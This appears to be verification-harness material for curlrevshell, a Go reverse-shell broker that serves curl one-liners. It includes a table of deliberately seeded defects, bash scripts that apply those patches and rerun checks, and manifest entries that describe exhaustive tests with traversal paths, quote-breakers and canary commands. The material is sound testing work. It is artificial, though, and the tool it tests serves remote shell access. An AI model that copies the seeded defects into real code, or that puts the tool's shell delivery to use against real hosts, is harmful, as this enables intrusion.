| C13-O (pin installed only if the URL begins with lower-case `https://`) / C13-P (shadowed `err`: a malformed fingerprint leaves the default transport in place) | missed | in the scenario where every server is ordinarily trusted: `HTTPS://`, `Https://`, `hTTps://`, and every malformed fingerprint |
| C14-O (small writes held back 5 ms, large ones not) / C14-P (output pipe not closed when the command cannot be started) | missed | a short write followed 0 - 20 ms later by a long one on the same descriptor; commands that cannot be started |
| C15-P (spaces turned into backticks over the whole destination) | missed | the destination already holds a space, a backtick, a newline and a length character |
| C17-O (directory files converted by GOMAXPROCS workers, the remainder dropped) | missed (the 400-file scenario happened to be a multiple of 16) | directories of 1 .. 70 eligible files with 16, 3 and 1 processors |
| C18-O (quote-escaping split over 4 workers from 64 rows up, the last rows skipped) | missed | listings of every size from 1 to 140 rows with a quote-breaker and a hidden command in every row |
| C20-O (cached certificate parsed by hand: the key is no longer checked against the certificate) | missed | start-up fault `cache-spliced` (certificate of one good cache, key of another) |
| C11-M (`-log` opened lazily, the error swallowed by slog) | caught by C20 only at first | C11: `-log` naming a file that cannot be opened - the program may refuse to start, but if it serves, what it delivers must be in a log that exists |

**C12-D** moves the registration of the server's event listener into the watcher goroutine, after HTTP is being served; it needs the broker to be busy delivering an earlier event to
another slow listener at start-up. The in-process scenario `c12BusyBroker` reproduces that set-up; its result for this change is recorded in `seeded/C12-D/check.out` (the agent's own
demonstration takes about 40 minutes to fail with the change applied, which is why this entry was the last to be filled in).

Result table (violations reported by the quick tier; first signatures):

| seeded change | files | result | signatures |
|---|---|---|---|
''' + table
s = s[:i] + new
open(p, 'w').write(s)
print("ok")
