cd "$(dirname "$0")/.."
for x in "C13 A" "C13 B" "C14 A" "C14 B"; do echo "=== $x"; tools/seedauto.sh $x 2>&1 | grep -E '^(suite|demo|check|patch|#)' | cut -c1-220; done
