cd "$(dirname "$0")/.."
for x in "C08 A" "C08 B" "C12 A" "C12 B" "C20 A" "C20 B"; do echo "=== $x"; tools/seedauto.sh $x 2>&1 | grep -E '^(suite|demo|check|patch|#)' | cut -c1-220; done
