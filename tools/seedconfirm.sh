#!/bin/bash
# Confirm a seeded property-breaking change and run the checks against it.
#   seedconfirm.sh <id> <prop> <srcdir> <demo-file> <dest-in-repo> [extra go test flags...]
# <srcdir> holds patch.diff, the demonstration and NOTES.md (written by a
# sub-agent in its own scratch worktree).  Everything is confirmed in a fresh
# scratch worktree of /repo; /repo itself is only patched for the duration of
# ./run and restored straight afterwards.
set -u
id=$1 prop=$2 src=$3 demo=$4 dest=$5
shift 5
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
V=$(cd "$(dirname "$0")/.." && pwd)
out=$V/seeded/$id
mkdir -p "$out"
cp "$src/patch.diff" "$out/patch.diff"
cp "$src/$demo" "$out/$(basename "$demo")"
[ -f "$src/NOTES.md" ] && cp "$src/NOTES.md" "$out/NOTES.agent.md"
log=$out/confirm.log
: >"$log"
wt=/tmp/seedconfirm-$id
git -C /repo worktree remove --force "$wt" >/dev/null 2>&1
git -C /repo worktree add -q --detach "$wt" HEAD || exit 2
pkg=./$(dirname "$dest")
res() { echo "$1" | tee -a "$log"; }
(
	cd "$wt" || exit 2
	git apply "$out/patch.diff" || { res "patch does not apply"; exit 2; }
	go build ./... >>"$log" 2>&1 || { res "build fails with the change"; exit 2; }
	# the suite, three tries because lib/simpleshell TestCmdShell is flaky on its own
	ok=0
	for t in 1 2 3; do
		if go test -count=1 ./... >>"$log" 2>&1; then ok=1; break; fi
	done
	[ $ok = 1 ] && res "suite_with_change=pass" || res "suite_with_change=FAIL"
	if [ "$dest" = SCRIPT ]; then
		cp "$out/demo.sh" ./seeded-demo.sh
		if bash ./seeded-demo.sh >>"$log" 2>&1; then res "demo_with_change=pass(!)"; else res "demo_with_change=fail"; fi
		git checkout -- .
		if bash ./seeded-demo.sh >>"$log" 2>&1; then res "demo_without_change=pass"; else res "demo_without_change=FAIL"; fi
		rm -f ./seeded-demo.sh
	else
	cp "$out/$(basename "$demo")" "$dest"
	if go test -count=1 "$@" "$pkg" >>"$log" 2>&1; then res "demo_with_change=pass(!)"; else res "demo_with_change=fail"; fi
	git checkout -- . && git clean -fdq -e "$(basename "$dest")" && git apply -R --check "$out/patch.diff" 2>/dev/null && res "patch still applied?!"
	if go test -count=1 "$@" "$pkg" >>"$log" 2>&1; then res "demo_without_change=pass"; else res "demo_without_change=FAIL"; fi
	rm -f "$dest"
	fi
)
# now the check, against the scratch worktree with the change applied, so that
# /repo stays untouched and usable meanwhile (set SEED_IN_REPO=1 to patch /repo
# itself instead: same result, but nothing else may build from /repo meanwhile)
if [ "${SEED_IN_REPO:-0}" = 1 ]; then
	git -C /repo worktree remove --force "$wt"
	if [ -n "$(git -C /repo status --porcelain)" ]; then res "/repo not clean, not running the check"; exit 2; fi
	git -C /repo apply "$out/patch.diff"
	(cd $V && VERIF_OUT_DIR=$V/.build/seedout/$id ./run "$prop" quick) >"$out/check.out" 2>&1
	rc=$?
	git -C /repo checkout -- .
else
	(cd "$wt" && git checkout -- . && git clean -fdq && git apply "$out/patch.diff")
	(cd $V && VERIF_REPO=$wt VERIF_OUT_DIR=$V/.build/seedout/$id ./run "$prop" quick) >"$out/check.out" 2>&1
	rc=$?
	git -C /repo worktree remove --force "$wt"
fi
rm -rf "$V/.build/seedout/$id"
nv=$(grep -c '^VIOLATION' "$out/check.out")
res "check_${prop}_quick exit=$rc violations=$nv"
grep '^# ' "$out/check.out" | head -5 | cut -c1-300 | tee -a "$log"
