cd "$(dirname "$0")/.."
for x in "C17 A" "C17 B" "C18 A" "C18 B" "C10 A" "C16 A" "C16 B"; do echo "=== $x"; tools/seedauto.sh $x 2>&1 | grep -E '^(suite|demo|check|patch|#)' | cut -c1-220; done
