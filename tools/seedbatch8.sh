# seedbatch8.sh "<variants>" <prop>... : confirm and check the seeded changes left in /tmp/wt-<prop>/seeded/<variant>
cd "$(dirname "$0")/.."
vs=$1; shift
for p in "$@"; do for v in $vs; do
	[ -d /tmp/wt-$p/seeded/$v ] || continue
	echo "=== $p $v"; tools/seedauto.sh $p $v 2>&1 | grep -E '^(suite|demo|check|patch|#|no demo)' | cut -c1-250
done; done
