# Table read by mkmanifest.py (exec'd).  chk(id, category, technique, text, note, design_ref)

HOOK_COMMITS = []

ENGINES = [
    {"name": "vcheck", "path": "/verif/harness",
     "serves_properties": [],
     "kind_free_text": "hand-written Go explorer compiled into the repository's module through go build -overlay: explicit-state BFS / deviation-bounded DFS over the real objects, exhaustive enumerators with perl/dash/bash batch drivers, fault-injecting os and time shims"},
]

NOTES = ("Every command rebuilds the harness from /repo's working tree (./run). Exit 0 = held on everything explored, "
         "1 = VIOLATION line, 2 = the check itself is broken. known_findings.json lists recorded/fixed defects.")

chk("C15", "exploration",
    "bounded exhaustive enumeration (all 2^24 groups, all fills, all lengths <= N, all short decoder inputs) against a reference encoder and perl pack/unpack",
    "Complete enumeration of the codec's group-local input space: every 3-byte group, every line fill 0..45, every total length "
    "0..4096 (thorough 0..65536 and 2^k+-1 to 1 MiB) compared with a reference encoder, perl pack('u') and perl unpack('u'); every string of "
    "length <=6 (thorough <=7) over an 11-symbol decoder alphabet plus CR-LF/blank-line/over-long/bad-character rewrites for totality, "
    "located errors and purity of src/dst.",
    "perl 5.36 pack/unpack is the compatibility reference; contents at large sizes are three fixed patterns (the codec is group-local, and all groups are covered).",
    "DESIGN.md 5 C15")
