# Table read by mkmanifest.py (exec'd).  chk(id, category, technique, text, note, design_ref)

HOOK_COMMITS = []

ENGINES = [
    {"name": "vcheck", "path": "/verif/harness",
     "serves_properties": [],
     "kind_free_text": "hand-written Go explorer compiled into the repository's module through go build -overlay: explicit-state BFS / deviation-bounded DFS over the real objects, exhaustive enumerators with perl/dash/bash batch drivers, fault-injecting os and time shims"},
]

NOTES = ("Every command rebuilds the harness from /repo's working tree (./run). Exit 0 = held on everything explored, "
         "1 = VIOLATION line, 2 = the check itself is broken. known_findings.json lists recorded/fixed defects.")

chk("C15", "exploration",
    "bounded exhaustive enumeration (all 2^24 groups, all fills, all lengths <= N, all short decoder inputs) against a reference encoder and perl pack/unpack",
    "Complete enumeration of the codec's group-local input space: every 3-byte group, every line fill 0..45, every total length "
    "0..4096 (thorough 0..65536 and 2^k+-1 to 1 MiB) compared with a reference encoder, perl pack('u') and perl unpack('u'); every string of "
    "length <=6 (thorough <=7) over an 11-symbol decoder alphabet plus CR-LF/blank-line/over-long/bad-character rewrites for totality, "
    "located errors and purity of src/dst. The decoder's error must point at the first invalid line (and character), as computed by a reference validator. Every length character 0x20..0xff with a data part of exactly the matching size (three contents, alone and after a full line) must decode to the bytes its characters stand for. An accepted input must be valid by the reference validator; lines of 4 KiB..1 MiB inside valid text. Encoding and decoding into a destination without spare capacity keep its contents.",
    "perl 5.36 pack/unpack is the compatibility reference; contents at large sizes are three fixed patterns (the codec is group-local, and all groups are covered).",
    "DESIGN.md 5 C15")

HOOK_COMMITS[:] = ["91b4480"]

_BW = ("BFS over the REAL iobroker.Broker (not a model of it): concurrent attempts are parked by build-tag hooks in front of the broker's "
       "admission and release critical sections and let through one at a time; streams, contexts, operator channels and the log handler are harness objects whose "
       "answers are explicit events; quiescence (all goroutines blocked) separates steps; a boring reference model written from the statement is compared "
       "with the broker's private state and with observations after every step. Every execution is a model trace replayed on the implementation. ")
_BWNOTE = ("Assumes lock-section + environment-event granularity is enough (all shared broker state is touched only inside the two gated sections; "
           "a free-running -race pass of the same scenarios in the thorough tier checks that). Bounds (attempts, IDs, lines, chunks) are in the evidence file per profile.")

chk("C01", "model_checking",
    "explicit-state BFS over the real broker under a controlled scheduler (hook gates), reference-model conformance after every step",
    _BW + "C01: <=3 (thorough 4) attempts over IDs {k, kk, K, empty, /io}, every order of admissions, stream endings, releases, cancellations and shutdown; "
    "oracles: refused attempts end at once, never see I/O, are announced; only the attached pair sees a probe line / chunk; IDs equal. HTTP seam: every ordered pair of streams over /i/{id}, /o/{id} (6 ID spellings incl. percent-encoded and case variants) and /io through the real handlers over TLS with probe line and chunk. Two simultaneous /io requests are part of the mixed profile. The HTTP seam's IDs include one whose decoded form still looks percent-encoded. Streams may also end because a write to them fails (uni profile). HTTP seam: one host making five attempts that must be refused, back to back: each is announced.",
    _BWNOTE, "DESIGN.md 4, 5 C01")
chk("C04", "model_checking",
    "explicit-state BFS over the real broker under a controlled scheduler, goroutine census at quiescence",
    _BW + "C04: every ending (EOF, error, data+error, write/flush failure, cancel, input closed, shutdown) in every life state of uni- and bidirectional shells over "
    "successive shells, plus a stalled-terminal flood on an unbuffered operator channel; oracles: peer ends without traffic, exactly one ready/gone notice and event, "
    "closure notices, no goroutine of an ended shell left, Do returns only when nothing is attached. Stalled terminal: notices are counted over the whole history (once a Connect call has returned, its closure/ready/gone notices must have been handed to the slow operator). HTTP seam: every way a client can end a direction over real TLS connections, several shells in a row. Wiring seam: the real binary under every boolean flag (alone and together), three shells in a row ended three ways: the listener re-arms, one gone notice each. Virtual clock (a second build): a shell whose streams are not the broker's to cancel, a stalled terminal, shutdown, ten minutes pass: Broker.Do must not have returned. A series of 1 100 shells through the real handlers: each attached, ended, announced gone once, the callback help printed again.",
    _BWNOTE, "DESIGN.md 4, 5 C04")
chk("C06", "model_checking",
    "explicit-state BFS over the real broker under a controlled scheduler: every admission order of the halves of 2-4 /io requests",
    _BW + "C06: 2 (thorough up to 4) simultaneous ConnectInOut calls plus unidirectional streams, each half parked separately, every admission order, "
    "cancellations and releases; oracle: the attached pair always belongs to one request (checked on state, on who receives the probe line and whose reader is drained). Gated HTTP seam: real /io, /i, /o requests over TLS whose broker halves are parked by the hooks, every admission order (4-8 halves) executed, pairing judged by the hooks and by probe traffic. Wiring seam: the real binary started with one and with two -listen-address flags, two /io clients on every address that accepts: at most one shell. HTTP seam: a unidirectional shell loses its input connection, a /io client becomes the shell, the old output connection sends a chunk: it belongs to no shell. /io/k is used as a spelling of /io in two client sets of the gated seam.",
    _BWNOTE, "DESIGN.md 4, 5 C06")

chk("C02", "model_checking",
    "explicit-state BFS over the real broker under a controlled scheduler with write/flush fault injection at every point; exhaustive payload enumeration",
    _BW + "C02: <=3 (thorough 4) operator lines entered before, between and during <=2-3 successive shells on all four writer kinds (plain, Flusher, FlushError, both), "
    "a write or flush failure at every point, clients vanishing (including 'while the line is in the proxy's hands'), input closing; oracle on the writers' call logs: "
    "each entry = line + one newline, flushed before the next, gap-free duplicate-free run across shells, nothing lost except a line whose own transmission failed. Lines also enter through the real opshell.ChanWriter (sizes 2^k+-1 to 1 MiB) and through Ctrl+I on the real Shell (pty worker): exactly one entry, reported size and hash correct. HTTP seam: each entered line must be readable by the real client before the next is entered. Quiet spell: a second build with the clocks of internal/hsrv and internal/iobroker virtual; after 1 s..20 min of quiet (every due timer fired) lines still arrive exactly and nothing else does. Terminal seam: 1..100 lines pasted into the real Shell's terminal in one write enter the input channel once each, in order. The input stream is also requested with POST and PUT.",
    _BWNOTE + " The HTTP/1.1-over-TLS writer is represented by the FlushError kind (what net/http hands the handler); the TLS seam itself is not part of this check.",
    "DESIGN.md 4, 5 C02")
chk("C03", "model_checking",
    "explicit-state BFS over the real broker: every sequence of read results x every terminal speed (unbuffered, one-slot, roomy operator channel)",
    _BW + "C03: every sequence of <=3 (thorough 4-5) read results over {data, zero-length, data+EOF/unexpected EOF/error, bare EOF/closed pipe/error, sizes 1/2047/2048/2049/5000}, "
    "operator channel of capacity 0, 1 and 1024 consumed at every relative speed, cancellation at every point (also simultaneously with a read returning); oracle: what is shown is "
    "always a prefix of what was sent, complete and in front of the close notice when the stream ended by itself. Terminal seam: every sequence of <=4 (thorough 6) items over {chunk, chunk without newline, multi-line chunk, close-style notice, status line} through the real opshell.Shell on a pty, stepwise / burst / backlog before start: terminal = CR-LF translation, in order. The seam alphabet also has a chunk with CR LF and a chunk that repeats byte for byte. HTTP seam: every chunking x ending of a real upload. Quiet spell: a second build with the clocks of internal/hsrv and internal/iobroker virtual; after 1 s..20 min of quiet (every due timer fired in order) 32 chunks must still be displayed exactly. Handler seam: requests with scripted bodies (every sequence of <=3 read results incl. data together with reset / unexpected EOF / closed pipe) through the real mux and handlers into the real broker. A connection cut (FIN) in the middle of a chunk over TLS (known finding D11). The operator's side may also be found waiting (await event); a free-running complement (real broker, busy reader, cancellation at every position; prefix oracle) samples what lies inside one event. A terminal that takes only part of a write (EAGAIN): what it holds when read out later is a prefix of what was sent. (Three more chunks are sent while it is being read out: no hole.)",
    _BWNOTE, "DESIGN.md 4, 5 C03")
chk("C11", "model_checking",
    "explicit-state BFS over the real broker with a capturing slog handler and a real slog JSON handler; exhaustive payload enumeration",
    _BW + "C11: histories of accepted, refused (every reason) and ended streams with lines delivered/failed and chunks shown/dropped; oracle per step: Shell I/O records in bijection and order "
    "with delivered lines and displayed chunks (also with an unbuffered operator channel), one connect and one disconnect record per accepted stream, one error-level record naming the reason "
    "per refusal; every record also goes through slog's JSON handler and must come out as one parsable line carrying the JSON image of the data (all strings of <=2 (thorough 3) JSON-hostile symbols). Also: no record may be written after Broker.Do has returned (the capturing handler yields before storing, records and Do's return carry a global sequence number); one end-to-end session of the real binary with -log, the file parsed line by line. A second such session is ended by SIGKILL once both handlers have returned: the file must be as complete. Free-running complement with a log sink that takes 0.3 ms per record while output flows and the stream is cancelled / shut down / ends. Virtual clock: an input stream that accepts its line only after a minute; delivered lines = input records. Formatter-looking lines among the payloads. Two runs of the real binary on one log file: the second continues the first.",
    _BWNOTE + " The -log file of the real binary is the same handler writing to a file; the file itself is not exercised here.",
    "DESIGN.md 4, 5 C11")

chk("C17", "exploration",
    "bounded exhaustive enumeration of real directory trees x filter tables against a reference written from the statement",
    "Every directory with <=3 (thorough 4) entries over 12 names (spaces, glob characters, dot-files, editor lock/backup names, several extensions) x 6 entry kinds "
    "(regular, empty, no final newline, sub-directory, symlink to a regular file, dangling symlink on dot/non-matching names) built for real so os.DirFS is exercised, "
    "converted twice with 4 filter tables (default, extended, reduced, overlapping with a user filter); single-file and multi-source forms; an fstest.MapFS variant. "
    "Failing trees are reduced to the minimal ones before reporting. Eligible files of 1-3 MiB in a directory and as single-file sources. Source names with glob characters next to siblings a pattern would match; 400 eligible files converted in a worker with 64 spare descriptors.",
    "Per-file conversion is a black box here (C16 owns FromPerl). Symlinks to regular files may be included or omitted; an empty conversion contributes nothing.",
    "DESIGN.md 5 C17")
chk("C18", "exploration",
    "bounded exhaustive enumeration of TABDOC strings, generated function executed by dash and bash with an argument-framing echo stub",
    "Every string of <=3 (thorough 4) symbols over 23 shell-significant symbols (quotes, backslash, $, backquote, parentheses, operators, globs, control bytes, invalid UTF-8) "
    "as name, description and both, classic quote-breakers carrying canary commands, and every sequence of <=4 doc lines over a menu with duplicates/empties; oracle: one "
    "call of echo per expected row with exactly one argument whose bytes parse to the expected (name, description), sorted, nothing else on stdout/stderr, status 0, no canary. Converter.From seam: every sequence of <=3 sources (filtered / unfiltered files, with / without final newline, a directory) converted with and without the listing; the listing is the only difference and its rows are those of the TABDOC lines of the payload it follows. The same with a zero-value Converter and with one kept Converter that saw the same sources a moment before a file was rewritten in place. Duplicates containing a quote; runs of blanks, a no-break space and a CR inside TABDOC text.",
    "dash and bash of this image stand for 'a POSIX shell'.",
    "DESIGN.md 5 C18")

chk("C16", "exploration",
    "bounded exhaustive enumeration of grammar-generated Perl programs, differential execution (perl vs wrapped function under dash and bash) plus static reference decoding",
    "One program per byte value 1..255 in both quote styles, 135 consecutive script lengths (all residues mod 45 and 3) in two shapes, every sequence of <=2 (thorough 3) statements "
    "over an 11-statement grammar x 6 leading-comment shapes x argument/stdin settings, 12 argument vectors, sizes to 64 KiB, empty and whitespace-only scripts, each under dash and bash; "
    "dynamic oracle: same stdout and exit status (die: failure status + message); static oracle: the function body, with the s/b substitution reversed and decoded by a reference "
    "uudecoder, equals the statement's program text, kept comments and function name. The grammar includes literals and here-docs with trailing blanks and lines that merely look like __END__ / __DATA__. Converter histories: one long-lived Converter converts a directory while the script is replaced by an older / same-age / newer file and other Converters' tables are changed (every history of <=4 operations, real directory and MapFS); the function text must be the wrapped form of the script that is there now. Reader shapes for FromPerl: one byte at a time, halves, data together with EOF, everything together with EOF, a reader that times out. Leading comment blocks of 100..600 lines.",
    "'Every Perl program' is not enumerable: the grammar covers the constructs the quantifier names. $0/__FILE__/__DATA__ excluded as the statement says. Known finding: the empty script (see known_findings.json).",
    "DESIGN.md 5 C16")

chk("C10", "exploration",
    "bounded exhaustive enumeration of printf-significant token strings in every client-controlled position of every reporting handler, over real TLS against the in-process server",
    "Every string of <=3 (thorough 4) tokens over {%, %%, s, d, v, q, x, 20, -, +, #, *, [1], !, a, %20, %25, %73, %2B} as file path, file query, c2 parameter (valid and invalid escapes), c2 header, "
    "another /c parameter, /i ID and /o ID (refused and attaching), Host; the template-missing/unparsable/exec-failure and files-directory-missing error branches; client addresses with a percent "
    "sign (zoned link-local IPv6) when the host has one. Oracle: the notice about the request carries the text as data and no formatter artefact the client did not send. Also the last seam: %-bearing notices and chunks through the real opshell.Shell on a pty must reach the terminal verbatim. net/http's own connection notices (plaintext or a broken handshake on the TLS port) from a zoned client are checked too. Host values with a label that claims to be punycode (xn--<text>); 48 clients failing the handshake at the same moment must each be named exactly once (a sampling complement). A script that cannot be delivered (a template of several MiB, clients that hang up without reading).",
    "Only requests net/http lets through to a handler can be explored. The 'every call site in the tree' clause of the quantifier is not decided by this technique (a static scan is another family); only sites reached by requests are exercised.",
    "DESIGN.md 5 C10")

_HW = ("The real hsrv.Server + iobroker.Broker run in-process on a loopback port and are driven over real TLS with hand-written request lines (so hostile targets and header combinations can be expressed); "
       "notices are read from the operator channel after each response. ")
chk("C05", "exploration",
    "exhaustive product of start-up configurations and restart/overlap histories, pin recomputed from the wire certificate, real curl --pinnedpubkey",
    _HW + "C05: key source {none, cache created, cache reused over 3 starts} x 6 listen-address forms x 6 callback-address sets x files x template; every sha256// value in the start-up notices, "
    "the help re-printed after a shell died and two /c bodies equals base64(SHA-256(SPKI)) of the leaf seen in two handshakes; one-liners name the bound port unless the user gave one; real curl "
    "accepts the advertised pin and refuses a one-character variant; an instance keeps serving what it advertised while its cache file is deleted/re-created/rewritten by another instance; four instances started together on a fresh cache path. Also: hand-made caches (a certificate section holding a chain; a certificate whose validity has passed) over three starts, and the real binary on a pty (fingerprints and ports as printed on the terminal, restart on the same cache). 16 clients requesting scripts at once (6 400 / 64 000 scripts): both pins of every script are the listener's (a sampling complement for shared rendering state). Every host:port the user supplied is among the printed addresses (ports up to 65535); curl --tls-max 1.2 with the advertised pin; refused /c requests carry no curl command pinning anything else.",
    "Key values are not enumerable; the oracle is relational per generated key. A start the program refuses is outside this property.",
    "DESIGN.md 5 C05")
chk("C07", "exploration",
    "exhaustive product of address sources, exhaustive template-edit histories to a depth, scripts executed by /bin/sh with real curl",
    _HW + "C07: c2 parameter (query and POST form; plain, URL-encoded, IPv6 literal) x c2 header x Host (absent/HTTP/1.0, name, name:port, two IDN names via absolute-form target) x SNI on IPv4 and IPv6 listeners against a 5-line reference precedence function; "
    "both curl lines carry the wire pin, the same address and the same fresh [0-9a-z]+ ID (distinct over 500-2000 scripts); every history of <=4 (thorough 5) template-file operations "
    "{T1, T2, unparsable, failing at execution, remove} with two requests after each; the script piped to /bin/sh for Host / c2 param / c2 header [::1] / SNI sources x default and custom template with a marker command round trip. Also IPv6-literal Host values and 16 x 1 500 (thorough 6 000) concurrent /c requests whose IDs must be pairwise distinct (a sampling complement). Each of those 16 clients uses a callback address of its own length and checks every script against its own request. Template histories start from a good, a missing and an unparsable template file and include a 100 kB template.",
    "Addresses that do not route back to this host are checked textually only.",
    "DESIGN.md 5 C07")
chk("C09", "exploration",
    "bounded exhaustive enumeration of raw request targets against real directory trees with canaries outside, all three configurations",
    _HW + "C09: every target of <=3 segments (thorough: larger segment set, 4 segments over the core set) over dot-segments, encoded/double-encoded dots, encoded slashes, backslashes, NUL, empty segments, "
    "shell-endpoint names, canary names and a 4 KiB segment x 3 prefixes x 3 suffixes, 301s followed once, against 3 trees (flat, nested, files named c/io/i/x/o/x) + single-file + unset; oracle: no canary content ever, "
    "no outside listing, 200 bodies are files/listings of the tree (single file: exactly that file; unset: no non-shell 2xx, file handler never runs), shell endpoints keep acting as such (by their notices), one 'File requested' notice per file response. Also: siblings whose names begin with the tree's name reached through every spelling of .. that survives the mux; shell endpoints with POST/PUT/DELETE/OPTIONS; 40 file requests against an operator queue of 8 (a stalled terminal) must all be reported. Single-file mode under concurrency (a 3 MiB file fetched by 8 clients at once, three rounds) and after the file was replaced by rename. Long targets (13 KB; a 431 below net/http's own limit counts as refusing the request). Single-file mode in a worker process with ~40 spare descriptors and the collector off: 300 requests, each must get the file. /c with queries its handler cannot parse stays /c. File requests with query parameters of ten common names (t, token, id, key, ...).",
    "Symlinks inside the tree are outside the quantifier. net/http's own 400/301 answers are only checked for leaking content.",
    "DESIGN.md 5 C09")

chk("C13", "model_checking",
    "stateless DFS over all interleavings of concurrent simpleshell.Go calls at their Shell-callback scheduling points, plus exhaustive input pairs and call histories, against real TLS servers",
    "Real TLS servers A, B, C (C presents the chain [C, A]) and I (a copy of A's certificate - subject, issuer, serial number, validity - around another key); (a) every (server, fingerprint spelling) pair over 11 spellings (plain, prefixed, unpadded, 31/33 bytes, non-base64, prefix only, double prefix, "
    "trailing blank, none); (b) every history of <=3 calls over 7 configurations (same URL with different pins included); (c) every schedule of 2 (thorough 3) concurrent calls, the scheduling points being the "
    "callbacks Go makes (Output() sits exactly between transport configuration and the request). Oracle: reference verdict (chain contains the pinned key / ordinary validation), the server's handler runs and receives body bytes "
    "only for accepted calls, a call reaches only its own server, http.DefaultClient / DefaultTransport settings unchanged after every step. Thorough adds a free-running -race pass. The pinned calls are repeated with a default transport that sends everything through a CONNECT proxy of the harness and trusts every server's certificate: same verdicts. Servers U (a second certificate in the chain whose key Go cannot marshal) and S (a key whose pin begins with a slash, both spellings). Fingerprints that are the pinned hash followed by 1 or 32 more bytes are malformed.",
    "Scheduling granularity is the callbacks, not every instruction; the -race pass covers unsynchronised accesses.",
    "DESIGN.md 5 C13")
chk("C14", "exploration",
    "exhaustive grid over output size x descriptor x owned consumer/exit order x input x exit status against the real CmdShell and a helper child, child state read from /proc",
    "Real CmdShell around this binary as child writing position-stamped bytes: sizes {0, 8, 4096, 32768, 32776, 65536, 65544, 98304, 200000} x {stdout, stderr, both} x bytes read before the child is gone or "
    "blocked in write {0, 8, 4096, 32768, N-8, N} x input {empty, 1 KiB / 100 KiB echoed through the child, never closed} x exit status {0, 3}, consumers pausing 0.3-1.2 s after the child is gone, inputs to 1 MiB; "
    "oracle: every stream arrives complete and in per-stream order before the terminal condition, input unchanged, nil for exit 0, error for exit 3. Also children that die by SIGKILL / SIGTERM (an unsuccessful exit), and a 30 s watchdog on the end of the output stream while the input is still open. End-to-end seam: simpleshell.Go + CmdShell against a slow HTTPS server (HTTP/2 and HTTP/1.1) that keeps sending input; a command writing 200 kB / 3 MiB and exiting with its input open: every byte arrives, then a clean end. Output sizes that do not end in a newline; CR LF pairs in the input.",
    "Kernel pipe semantics trusted; the schedule axis is one owned choice plus a pause, not every interleaving of the copy goroutines.",
    "DESIGN.md 5 C14")

chk("C08", "fault_enumeration",
    "exhaustive crash-point / torn-write enumeration of the real cache write path through an os shim, exhaustive single-byte damage, bounded-exhaustive restart histories",
    "lib/sstls is built with its os import rewritten (overlay) to a logging/crash-injecting shim. (a) every crash point of the real GetCertificate write path: before each mutating call and after every byte count 0..n (~815) of "
    "WriteFile, each followed by a recovery run on the same directory and a real in-memory TLS handshake; (b) every byte offset of a complete cache file x 6 replacements (~4800), by region; (c) every history of <=4 (thorough 6) "
    "operations over {start, start without cache, delete cache, torn write at 3 lengths} against a key-identity model; (d) missing-directory nesting 0..4 x umask {0, 022, 077} with modes checked after every step. "
    "Oracle: recovery fails or serves the key that was being saved (never another, never an unusable pair), an existing file is never rewritten, file 0600 / directories 0700 at every point. Damage classes: 16 (every single-bit flip of the low six bits and the top bit, +1, -1, six fixed characters); restarts of caches whose certificate lives 1 ns / 1 s / 1 h. Above GetCertificate: every history of <=3 starts through sstls.Listen (fine / address in use / bad address) on one cache path, from a missing and an existing cache; the HTTPS server started the program's way (hsrv.New) on ~20 damaged caches must fail or serve the cached key. The os shim can also make the cache write fail (ENOSPC after k bytes): successive starts all reported as successful present one key. Cache paths with .. after a symbolic link, doubled separators, dot segments. Three restarts of the server as the program builds it on one intact cache (IPv4 / IPv6 listen address, a callback name added on the third).",
    "A crash stops the process at a call boundary or inside WriteFile after k bytes, with what was written durable; only lib/sstls's own os calls are intercepted (txtar reads through the real os).",
    "DESIGN.md 5 C08")

chk("C20", "fault_enumeration",
    "exhaustive enumeration of single and paired start-up faults x informational flag x tty, and of self-initiated exits, on the real binary with termios compared",
    "The real curlrevshell binary, as session leader on a fresh pty or without any controlling terminal: every single fault of {listen address: bad syntax / port bound / not local; cache: empty / cut before the key / garbage / unwritable path; "
    "log path: parent missing / parent is a file; Ctrl+I source missing} and every pair from different resources x {no flag, -print-default-template, -print-ctrl-i, -h} x {pty, no tty}; every self-initiated exit (Ctrl+C, Ctrl+D, -one-shell completion; idle and with a shell attached over real TLS). "
    "Oracle: no panic / stack trace, non-zero status with a message naming a cause (or the requested output with status 0), exit 0 + 'Goodbye.' for self exits, termios after exit equal to termios before start. Cache faults include a directory that exists but takes no files. Every exit and every single fault is also run with GOGC=1 (collector and finalizers running all the time). Exits also include leaving while an insertion is under way (Tab then Ctrl+D; queue full, Tab, Ctrl+D). A controlling terminal with standard input /dev/null: the terminal is as it was found.",
    "Which of two faults is named and whether an informational flag wins over a fault is not fixed by the statement: either accepted. Root ignores file modes, so 'unwritable' is a parent that is a regular file.",
    "DESIGN.md 5 C20")

chk("C12", "exploration",
    "bounded exhaustive enumeration of -one-shell session histories of the real binary on a pty with real TLS clients",
    "The real binary with -one-shell: pre-attempt sequences (length <=1 quick, <=2 thorough) over {half-attached input that leaves, half-attached output that leaves, refused output beside a held input} x arrival {/i then /o, /o then /i, /io} "
    "x ending {input closed, output closed, both, output EOF} x traffic in flight x exit trigger {line, Ctrl+D}; oracle: TCP connects succeed before the shell is fully attached (also while half attached) and are refused within 20 s after the ready notice; "
    "a marker goes both ways right after the close and again 2.5 s later; nothing in flight is lost; no one-liners after the shell is gone; exit 0 with Goodbye after at most one more line; termios restored. Also two in-process scenarios: a stalled operator channel at the moment the shell becomes ready (Server.Do must still end with the expected closure), and a broker busy delivering an earlier event when the server starts (the first shell's connected event must not be lost). Pre-attempts include a refused /io client beside a held input; two sessions are left alone for 8 s (thorough 35 s) after the listener closed before the second round trip. Sessions whose shell ends the moment it is ready: the listener still closes, no one-liners, exit at the next line. 1 100 half-attached attempts before the shell.",
    "'shortly' = refused at some poll within 20 s; the operator's line is entered 3 s after the shell is gone (net/http's graceful shutdown polls at up to 500 ms, a line typed inside that window is consumed first).",
    "DESIGN.md 5 C12")

chk("C19", "model_checking",
    "stateless exhaustive DFS over all event strings of length L on the real opshell.Shell under a virtual clock (import-rewritten time), three-valued reference model",
    "lib/opshell/opshell.go is built with its time import rewritten (overlay) to a virtual clock. The real Shell is constructed by the real New in worker processes whose controlling terminal is a fresh pty, Do running, terminal output captured; "
    "every event string of length 6 (thorough 8) over {Ctrl+O, plain chunk, status line (four dresses, by position), Ctrl+J preview, +0.1 s, +1.9 s, +2.1 s} is executed (117 649 / 5 764 801 executions, plus two fixed floods of 27 and 66 events), timers firing at their own deadlines with quiescence after each; "
    "oracle after every step: a chunk is shown iff the model is un-muted, every status line is shown, exactly one Muting / Already muted / Unmuting announcement where due, nothing suppressed without Ctrl+O, private flag equals the model where the model is sure. "
